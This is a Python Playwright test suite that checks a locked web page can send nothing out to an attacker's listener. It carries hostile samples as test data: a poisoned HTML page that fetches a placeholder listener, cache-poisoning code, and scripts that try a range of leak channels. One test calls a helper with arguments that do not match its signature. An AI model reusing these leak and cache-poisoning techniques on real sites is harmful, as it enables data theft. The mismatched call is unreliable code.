"""The seal and the lock: hostile code in the page gets nothing out, whether it runs after the lock or before.

The listener plays the other machine. A channel passes when it is refused where it is tried, or cannot be seen to have
worked, and in either case nothing whatever has reached the listener, nor the page's own host, and nothing of it
outlives the page: no other window, address, history or store.

The page has no engine here, which these tests do not need, and is in a browser profile that is kept on disk: in a
profile that is not, Chromium follows no hint to connect, and those channels could not fail.
"""

from __future__ import annotations

import json
import shutil
import time
from collections.abc import Iterator
from contextlib import ExitStack, closing
from pathlib import Path

import build_site
import pytest
from chromium import CHROMIUM_FLAGS
from playwright.sync_api import Browser, BrowserContext, Page
from playwright.sync_api import Error as BrowserError

from tests.browser.channels import (
    BETWEEN,
    FURTHER,
    FURTHER_AWAY,
    HELPERS,
    PAGE,
    PAGE_HELPERS,
    UNKNOWN,
    aimed,
    all_at_once,
)
from tests.browser.conftest import FIXTURES, Host, Listener, empty_runtime, serving

LOCKED = "html[data-locked=yes]"
KEPT_OFFLINE = "html[data-offline=yes]"
NOTICE = 1.2
"""Seconds until the listener has noted a connection over which nothing is said."""

Listeners = dict[str, Listener]
SIDE_BY_SIDE = [list(PAGE)[first : first + 8] for first in range(0, len(PAGE), 8)]
"""Channels, by name, that are tried side by side: each takes little but time."""

STAYS = """JSON.stringify([
  location.href, history.state, globalThis.name || "", globalThis.navigation?.currentEntry.getState() ?? null,
])"""
"""What of a page its tab keeps."""

SENDING = ["fetch", "Request", "XMLHttpRequest", "WebSocket", "WebSocketStream", "WebTransport", "EventSource"]
"""All that can take a stream or keep a connection, and so be begun early and used late. An upload as a stream needs
HTTP/2, which the tests' host does not speak; without these none can be begun."""

KEPT = """async () => {
  const kept = [JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage }), document.cookie];
  for (const { name } of await indexedDB.databases()) kept.push(`database ${name}`);
  for (const name of await caches.keys()) {
    for (const { url } of await (await caches.open(name)).keys()) kept.push(`${name} ${url}`);
  }
  for await (const name of (await navigator.storage.getDirectory()).keys()) kept.push(`file ${name}`);
  for (const name of await navigator.storageBuckets.keys()) kept.push(`bucket ${name}`);
  const { navigationPreload } = await navigator.serviceWorker.ready;
  kept.push(JSON.stringify(await navigationPreload.getState()));
  return kept.filter((each) => each.includes("leak"));
}"""


def poison() -> str:
    """A module that does what ``before`` says of the attack that the page is under, and tells what it came upon."""
    ways = ",\n".join(f"{json.dumps(name)}: async () => {{ {each['before']} }}" for name, each in BETWEEN.items())
    return f"""{HELPERS}{PAGE_HELPERS}
      globalThis.found = {STAYS};
      globalThis.couldSend = {json.dumps(SENDING)}.filter((name) => globalThis[name] !== undefined);
      globalThis.wasLocked = document.documentElement.dataset.locked;
      const ways = {{ {ways} }};
      try {{ globalThis.kept = await ways[globalThis.attack]?.(); }}
      catch (error) {{ globalThis.refusal = String(error.message ?? error); }}"""


@pytest.fixture(scope="module")
def host(site: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Host]:
    """A release, properly built, whose page has a poisoned module and whose engine is empty."""
    folder = tmp_path_factory.mktemp("poisoned")
    runtime, shell, made = folder / "runtime", folder / "shell", folder / "site"
    empty_runtime(site, runtime)
    shutil.copytree(FIXTURES / "shell", shell)
    shutil.copytree(FIXTURES / "poisoned", shell, dirs_exist_ok=True)
    (shell / "src/poison.js").write_text(poison(), encoding="utf-8")
    build_site.assemble(made, runtime, shell)
    with serving(made) as host:
        yield host


@pytest.fixture(scope="module")
def profile(chromium: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[BrowserContext]:
    """A browser with a profile on disk."""
    context = chromium.browser_type.launch_persistent_context(
        tmp_path_factory.mktemp("profile"), executable_path=shutil.which("chromium"), args=CHROMIUM_FLAGS
    )
    yield context
    context.close()


@pytest.fixture
def page(profile: BrowserContext) -> Iterator[Page]:
    """A tab in it. It, and what it opens, are closed after the test."""
    page = profile.new_page()
    yield page
    for each in profile.pages[1:]:  # Without its first tab the browser would end.
        each.close()


@pytest.fixture(scope="module")
def other(profile: BrowserContext, host: Host) -> Iterator[BrowserContext]:
    """The browser when it has been at the page before."""
    page = profile.new_page()
    page.goto(host.url)
    page.wait_for_selector(KEPT_OFFLINE, state="attached")
    page.close()
    yield profile


def run(page: Page, code: str) -> str:
    """Run the body of an asynchronous function; how that ended."""
    start(page, code)
    return outcome_of(page)


def start(page: Page, code: str) -> None:
    """Run the body of an asynchronous function, without waiting for its end."""
    evaluate(
        page,
        f"""void (async () => {{
          {HELPERS}{PAGE_HELPERS}
          try {{ const sent = await (async () => {{ {code} }})(); globalThis.outcome = `SENT: '${{sent}}'`; }}
          catch (error) {{ globalThis.outcome = String(error.message ?? error.type ?? error); }}
        }})()""",
    )


def outcome_of(page: Page) -> str:
    """How that ended, in words. Nothing in the page that it may change is relied on."""
    for _ in range(100):
        if outcome := evaluate(page, "globalThis.outcome"):
            return str(outcome)
        time.sleep(0.05)
    return "no answer"


def evaluate(page: Page, expression: str) -> object:
    """The value of an expression. As at a click of the user's: more is allowed then."""
    session = page.context.new_cdp_session(page)
    as_the_page = {"userGesture": True, "allowUnsafeEvalBlockedByCSP": False, "returnByValue": True}
    answer = session.send("Runtime.evaluate", {"expression": expression, **as_the_page})
    session.detach()
    return answer["result"].get("value")


def lock(page: Page, host: Host) -> None:
    """Go to the page, and wait until it has locked."""
    page.goto(host.url)
    page.wait_for_selector(LOCKED, state="attached")


def assert_nothing_leaves(pages: dict[str, Page], host: Host, codes: dict[str, str], listeners: Listeners) -> None:
    """Run code, each in a locked page and with a listener of its own, and close the pages: what waits for their end is
    sent then.
    """
    context = next(iter(pages.values())).context
    requests, tabs = len(host.requests), len(context.pages)
    stays = {name: evaluate(page, STAYS) for name, page in pages.items()}
    for name, page in pages.items():
        start(page, aimed(codes[name], listeners[name].url, host.url))
    outcomes = {name: outcome_of(page) for name, page in pages.items()}
    assert {name: how for name, how in outcomes.items() if "SENT" in how and how != UNKNOWN} == {}
    assert [each.url for each in context.pages[tabs:]] == []
    assert {name: page.url for name, page in pages.items()} == dict.fromkeys(pages, host.url)
    assert {name: evaluate(page, STAYS) for name, page in pages.items()} == stays
    for page in pages.values():
        page.close()
    time.sleep(NOTICE if len(pages) > 1 or "preconnect" in next(iter(pages)) else 0.1)
    assert {name: heard for name, listener in listeners.items() if (heard := listener.received)} == {}
    # The browser itself, not the page, looks whether sw.js has changed.
    assert [request for request in host.requests[requests:] if request != "GET /sw.js"] == []
    leaks = [request for request in host.requests if "leak" in request or "6368696c64313233" in request]
    host.requests.clear()
    assert leaks == [], "before the lock or after"


@pytest.mark.parametrize("names", SIDE_BY_SIDE, ids=lambda names: f"{names[0]} to {names[-1]}")
def test_nothing_leaves_the_locked_page(profile: BrowserContext, host: Host, names: list[str]) -> None:
    """None is run before all of these pages are locked, so that what the host is then asked for is of an attack."""
    with ExitStack() as stack:
        listeners = {name: stack.enter_context(closing(Listener())) for name in names}
        pages = {name: stack.enter_context(closing(profile.new_page())) for name in names}
        for page in pages.values():
            lock(page, host)
        assert_nothing_leaves(pages, host, {name: PAGE[name] for name in names}, listeners)


def test_nothing_leaves_the_locked_page_by_what_is_tried_at_once(page: Page, host: Host, listener: Listener) -> None:
    lock(page, host)
    host.requests.clear()
    pages = len(page.context.pages)
    evaluate(page, all_at_once(FURTHER, listener.url, host.url))
    page.wait_for_selector("html[data-outcomes]", state="attached")
    outcomes = json.loads(page.get_attribute("html", "data-outcomes") or "")
    assert len(outcomes) == len(FURTHER)
    assert {name: how for name, how in outcomes.items() if "SENT" in how and how != UNKNOWN} == {}
    assert [each.url for each in page.context.pages[pages:]] == []
    time.sleep(NOTICE)
    assert listener.received == []
    assert [request for request in host.requests if request != "GET /sw.js"] == []


@pytest.mark.parametrize("name", FURTHER_AWAY)
def test_nothing_leads_away_from_the_locked_page(page: Page, host: Host, listener: Listener, name: str) -> None:
    lock(page, host)
    assert_nothing_leaves(page, host, listener, name, FURTHER_AWAY[name])


@pytest.mark.parametrize("name", BETWEEN)
def test_nothing_of_before_the_lock_is_of_use_after(
    other: BrowserContext, page: Page, host: Host, listener: Listener, name: str
) -> None:
    elsewhere = other.new_page()
    elsewhere.goto(f"{host.url}config.json")
    before = [elsewhere.evaluate(KEPT), other.cookies()]
    page.add_init_script(f"globalThis.attack = {json.dumps(name)}")
    lock(page, host)
    code = f"if (globalThis.refusal) throw new Error(refusal); const {{kept}} = globalThis; {BETWEEN[name]['after']}"
    assert_nothing_leaves({name: page}, host, {name: code}, {name: listener})
    # What is kept is looked at from another page of the same host, since the locked page may not look.
    assert [elsewhere.evaluate(KEPT), other.cookies()] == before


def test_the_listener_would_hear_a_hint_to_connect(page: Page, host: Host, listener: Listener) -> None:
    """The tests above can fail: from a page without the lock, a link element is enough to reach the listener."""
    page.goto(f"{host.url}config.json")
    hint = "const link = document.createElement('link'); link.rel = 'preconnect'; link.href = url; head.append(link)"
    page.evaluate(f"(url) => {{ const {{ head }} = document; {hint} }}", listener.url)
    assert listener.hears()


POINTED_AT = "const a = link('LISTENER'); a.append('leak'); document.body.prepend(a);"


def test_a_link_that_is_pressed_connects_to_nothing(page: Page, host: Host, listener: Listener) -> None:
    """The browser connects ahead where a link is pressed, before any script hears of it."""
    lock(page, host)
    run(page, aimed(POINTED_AT, listener.url, host.url))
    page.hover("text=leak")
    page.mouse.down()
    page.mouse.move(300, 300)
    page.mouse.up()
    time.sleep(NOTICE)
    assert listener.received == []


def test_the_middle_button_opens_no_link(page: Page, host: Host, listener: Listener) -> None:
    lock(page, host)
    run(page, aimed(POINTED_AT, listener.url, host.url))
    with pytest.raises(BrowserError, match="Timeout"), page.context.expect_page(timeout=700):
        page.click("text=leak", button="middle")
    assert [request for request in listener.received if "GET" in request] == []


def test_a_page_whose_lock_does_not_hold_takes_no_file(chromium: Browser, host: Host) -> None:
    """In a browser that is told to follow no policy."""
    context = chromium.new_context(bypass_csp=True)
    page = context.new_page()
    page.goto(host.url)
    page.wait_for_selector("html[data-state=failed]", state="attached", timeout=20_000)
    assert "not locked" in page.inner_text("#start-status")
    assert page.get_attribute("html", "data-locked") is None
    assert page.is_disabled("#files")
    assert page.evaluate("typeof globalThis.found") == "undefined", "no module of the page ran"
    context.close()


def test_no_script_of_the_user_interface_runs_before_the_lock(page: Page, host: Host) -> None:
    lock(page, host)
    page.wait_for_function("globalThis.found")
    assert evaluate(page, "globalThis.wasLocked") == "yes"


def test_nothing_that_sends_is_there_when_the_first_of_them_runs(page: Page, host: Host) -> None:
    page.goto(f"{host.url}config.json")
    there = page.evaluate("(names) => names.filter((name) => globalThis[name] !== undefined)", SENDING)
    assert {"fetch", "Request", "XMLHttpRequest", "WebSocket", "EventSource"} <= set(there), "elsewhere they are"
    lock(page, host)
    page.wait_for_function("globalThis.found")
    assert evaluate(page, "JSON.stringify(globalThis.couldSend)") == "[]"


def test_the_proof_of_the_lock_asks_the_host_for_nothing(page: Page, host: Host) -> None:
    host.requests.clear()
    lock(page, host)
    assert [request for request in host.requests if "lock-probe" in request] == []


def test_the_name_of_the_window_keeps_nothing(page: Page, host: Host) -> None:
    lock(page, host)
    run(page, "window.name = 'child=123';")
    page.goto(f"{host.url}config.json")
    assert page.evaluate("name") == ""


@pytest.mark.parametrize("whose", ["of this host", "of another host"])
def test_a_page_that_another_page_opened_does_not_start(page: Page, host: Host, site_url: str, whose: str) -> None:
    """The one that opened it may read all of it, where it is of the same origin."""
    page.goto(f"{host.url if whose == 'of this host' else site_url}config.json")
    with page.expect_popup() as popup:
        page.evaluate(
            "(url) => { window.heard = []; onmessage = ({ data }) => heard.push(data); window.opened = open(url); }",
            host.url,
        )
    opened = popup.value
    opened.wait_for_selector("html[data-state=failed]", state="attached", timeout=10_000)
    assert "new tab" in opened.inner_text("#start-status")
    page.evaluate("opened.postMessage('a question', '*')")
    time.sleep(0.5)
    assert opened.get_attribute("html", "data-locked") is None
    assert opened.is_disabled("#files")
    assert opened.evaluate("typeof globalThis.found") == "undefined", "no module of the page ran"
    assert page.evaluate("heard") == []


@pytest.mark.parametrize("rel", ["noopener", ""])
def test_a_link_to_the_page_in_a_new_tab_starts_it(page: Page, host: Host, site_url: str, rel: str) -> None:
    """Browsers give no opener to what a link opens, unless it asks for that."""
    page.goto(f"{site_url}config.json")
    with page.expect_popup() as popup:
        page.evaluate(
            "([href, rel]) => Object.assign(document.createElement('a'), {href, rel, target: '_blank'}).click()",
            [host.url, rel],
        )
    popup.value.wait_for_selector(LOCKED, state="attached")


def test_a_page_behind_another_service_worker_does_not_start(chromium: Browser, host: Host, tmp_path: Path) -> None:
    """One of a neighbour of the same origin: it answers what this page asks for."""
    shutil.copytree(host.folder, tmp_path / "lac")
    (tmp_path / "neighbour.js").write_text(
        "onactivate = (event) => event.waitUntil(clients.claim()); onfetch = () => {};"
    )
    (tmp_path / "neighbour.html").write_text("<!doctype html><title>Neighbour</title>")
    context = chromium.new_context()
    page = context.new_page()
    with serving(tmp_path) as both:
        page.goto(f"{both.url}neighbour.html")
        page.evaluate("navigator.serviceWorker.register('neighbour.js').then(() => navigator.serviceWorker.ready)")
        page.goto(f"{both.url}lac/")
        page.wait_for_selector("html[data-state=failed]", state="attached", timeout=10_000)
        assert "service worker" in page.inner_text("#start-status")
        assert page.get_attribute("html", "data-locked") is None
        assert page.evaluate("typeof globalThis.found") == "undefined", "no module of the page ran"
    context.close()


def test_a_page_in_a_frame_does_not_start(page: Page, host: Host, site_url: str) -> None:
    page.goto(f"{site_url}config.json")
    page.evaluate(
        "(url) => document.body.append(Object.assign(document.createElement('iframe'), { src: url }))", host.url
    )
    frame = page.frame_locator("iframe")
    frame.locator("html[data-state=failed]").wait_for(state="attached", timeout=10_000)
    assert "tab of its own" in frame.locator("#start-status").inner_text()
    time.sleep(0.5)
    assert frame.locator("html").get_attribute("data-locked") is None
    assert frame.locator("html").evaluate("() => typeof globalThis.found") == "undefined", "no module of the page ran"


def test_an_earlier_visit_leaves_nothing_for_the_next(page: Page, host: Host) -> None:
    page.goto(f"{host.url}config.json")
    page.evaluate(
        """() => {
          window.name = "child=123";
          history.replaceState("child=123", "", "./?child=123#child=123");
          navigation.updateCurrentEntry({ state: "child=123" });
        }"""
    )
    page.reload()
    page.wait_for_selector(LOCKED, state="attached")
    assert json.loads(page.evaluate("found")) == [host.url, None, "", None], "while the page was not yet locked"
    assert page.url == host.url


def test_places_of_an_earlier_visit_are_cleared_when_gone_back_to(page: Page, host: Host) -> None:
    """Numbers of places, left in a row by a page that could choose them, would spell something."""
    page.goto(f"{host.url}config.json")
    page.evaluate("for (const number of [67, 104, 105]) history.pushState(number, '', './')")
    page.reload()
    page.wait_for_selector(LOCKED, state="attached")
    evaluate(
        page,
        "globalThis.told = []; addEventListener('popstate', ({ state }) => told.push(state), true); history.back()",
    )
    time.sleep(0.5)
    assert evaluate(page, "JSON.stringify([history.state, told])") == "[null,[]]"


POISONED = (
    """<!doctype html><html data-state="failed"><script>fetch("LISTENER", { mode: "no-cors" });</script></html>"""
)

PUT = """async ([path, text]) => {
  const names = (await caches.keys()).filter((name) => name.startsWith("lac-validator "));
  const another = `${names[0].slice(0, names[0].lastIndexOf(" "))} ${"0".repeat(64)}`;
  for (const name of [...names, another]) {
    const response = new Response(text, { headers: { "Content-Type": "text/html" } });
    await (await caches.open(name)).put(new URL(path, location), response);
  }
}"""


@pytest.mark.parametrize("path", ["index.html", "manifest.json"])
@pytest.mark.parametrize("online", [True, False], ids=["online", "offline"])
def test_a_page_poisoned_where_it_is_kept_is_not_served(
    chromium: Browser, host: Host, listener: Listener, path: str, online: bool
) -> None:
    context = chromium.new_context()
    page = context.new_page()
    page.goto(host.url)
    page.wait_for_selector(KEPT_OFFLINE, state="attached")
    # Any page of the same host may write to what is kept.
    page.goto(f"{host.url}config.json")
    text = aimed(POISONED, listener.url, host.url)
    for each in {path, "index.html"}:
        page.evaluate(PUT, [each, text])
    context.set_offline(not online)
    try:
        page.goto(host.url)
    except BrowserError as error:  # Without a network there may be nothing to show.
        assert not online, error
    if online:
        page.wait_for_selector("html[data-locked=yes], html[data-state=failed]", state="attached")
        assert page.get_attribute("html", "data-locked") == "yes"
    time.sleep(0.3)
    assert "mode: " not in page.content()
    assert listener.received == []
    context.close()
